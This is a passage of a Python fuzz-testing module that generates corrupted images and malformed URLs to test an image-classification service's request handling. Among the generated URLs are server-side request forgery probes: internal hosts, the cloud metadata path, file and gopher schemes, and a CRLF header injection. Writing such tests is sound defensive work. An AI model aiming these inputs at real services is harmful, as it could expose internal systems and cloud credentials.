        lambda: ("answer", _broken(rng, rng.choice(answers), rng.choice(answers))),
        lambda: ("address", _address(rng, rng.choice(hosts))),
    ]
    while True:
        yield rng.choice(makers)()


def _broken(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """Some bytes changed, cut out, doubled, or another input's in their place; the beginning is often left alone."""
    result = bytearray(data)
    for _ in range(rng.randint(1, 6)):
        size = len(result)
        at = rng.randrange(min(12, size), size + 1) if rng.random() < 0.8 else rng.randrange(size + 1)
        until = min(size, at + rng.choice((1, 1, 1, 2, 4, 16, 200)))
        how = rng.randrange(7)
        if how == 0:
            result[at:until] = rng.randbytes(until - at)
        elif how == 1:
            result[at:until] = rng.choice((b"\0", b"\xff", b"\x7f", b"\x80")) * (until - at)
        elif how == 2:
            del result[at:until]
        elif how == 3:
            del result[at:]
        elif how == 4:
            result[at:at] = result[at:until]
        elif how == 5:
            start = rng.randrange(len(other))
            result[at:until] = other[start : start + rng.choice((4, 40, 400))]
        elif at < size:
            result[at] ^= 1 << rng.randrange(8)
    return bytes(result)


def _address(rng: random.Random, host: str) -> str:
    scheme = rng.choice(("http", "http", "https", "HTTP", "file", "ftp", "gopher", "", "http:"))
    user = rng.choice(("", "", "", "", "u@", "u:p@", "a.invalid@", "@"))
    port = rng.choice(("", "", "", ":80", ":443", ":22", ":0", ":65536", ":x", ":", f":{rng.randrange(65536)}"))
    path = rng.choice(
        (
            "",
            "/",
            "/latest/meta-data/",
            "?",
            "#",
            "\\",
            "/%00",
            "/é",
            f"/{rng.random()}",
            "//",
            "/\t",
            "/ x",
            "/\r\nX: 1",
        )
    )
    text = f"{scheme}://{user}{host}{port}{path}"
    if rng.random() < 0.2:
        at = rng.randrange(len(text))
        text = text[:at] + rng.choice("\0\t\n /\\@:#?%[]．。\u200b\ud800ß") + text[at:]
    return text


# ------------------------------------------------------------------------------------------------ strategies


def broken_pictures() -> st.SearchStrategy[bytes]:
    """Pictures of the corpus with other bytes in them, and bytes behind a signature."""
    files = [file for file in pictures().values() if 8 < len(file) < 20_000]
    spliced = st.builds(
        lambda file, at, data, keep: file[: at % len(file)] + data + (file[at % len(file) :] if keep else b""),
        st.integers(0, len(files) - 1).map(lambda i: files[i]), st.integers(0, 20_000), st.binary(max_size=64),
        st.booleans(),
    )  # fmt: skip
    signatures = st.sampled_from([b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\xff\xff\xff\xffWEBP", b"GIF89a", b""])
    return spliced | st.builds(bytes.__add__, signatures, st.binary(max_size=300))


def addresses() -> st.SearchStrategy[str]:
    """Hosts inside in some spelling, with whatever before and behind them."""
    hosts = [host for address in INSIDE for host in spellings(address)] + [f"[{address}]" for address in INSIDE_6]
    beyond = st.text(max_size=20)
    return st.builds(
        lambda scheme, user, host, port, path: f"{scheme}{user}{host}{port}{path}",
        st.sampled_from(["http://", "https://", "http:/", "file://", "//", "HTTP://", "gopher://"]),
        st.sampled_from(["", "", "", "u@", "u:p@", ":@", "\\", "a.invalid\\@"]),
        st.sampled_from(hosts) | beyond.map(lambda text: f"{text}.invalid"),
        st.sampled_from(["", ":80", ":0", ":22", ":8080", ":65536", ":", ":-1", ":ⅷ"]),
        beyond.map(lambda text: f"/{text}") | st.just(""),
    )  # fmt: skip


def json_values() -> st.SearchStrategy[Any]:
    """What `json.loads` can give, mostly with the names that a request has."""
    names = st.sampled_from(["url", "image", "top_k", "details", "predictions", ""]) | st.text(max_size=5)
    leaves = (
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | addresses()
        | broken_pictures().map(lambda data: base64.b64encode(data).decode())
    )  # fmt: skip
    return st.recursive(
        leaves, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(names, inner, max_size=4), max_leaves=8
    )


def requests() -> st.SearchStrategy[dict[str, Any]]:
    """Objects that are nearly right: a picture or an address, and wishes that may make sense."""
    wishes = {
        "top_k": st.none() | st.integers() | st.floats() | st.sampled_from(["all", "5", ""]),
        "details": json_values(),
    }
    image = broken_pictures().map(lambda data: base64.b64encode(data).decode())
    return st.fixed_dictionaries({"image": image}, optional=wishes) | st.fixed_dictionaries(
        {"url": addresses()}, optional=wishes
    )
